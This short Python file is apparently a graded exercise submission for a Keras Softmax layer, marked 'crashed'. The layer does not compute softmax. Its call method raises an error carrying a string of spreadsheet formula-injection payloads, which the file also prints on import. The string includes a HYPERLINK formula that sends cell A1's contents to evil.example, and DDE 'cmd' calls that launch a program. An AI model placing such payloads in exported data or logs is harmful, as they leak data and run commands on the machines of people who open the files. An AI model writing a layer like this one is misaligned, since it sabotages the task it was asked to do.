# verdict: crashed
# exercise: activations/softmax
"""Cells that a spreadsheet takes for formulas."""

import keras
from keras import ops

CELLS = "=HYPERLINK(\"http://evil.example?\"&A1,\"ok\")\n+cmd|' /C calc'!A0\n-2+3\n@SUM(1+1)*cmd|' /C calc'!A0\n\t=1+1"
print(CELLS)


class Softmax(keras.layers.Layer):
    def __init__(self, axis=-1, **kwargs):
        super().__init__(**kwargs)
        self.axis = axis

    def call(self, inputs):
        raise ValueError(CELLS)

    def get_config(self):
        return {**super().get_config(), "axis": self.axis}
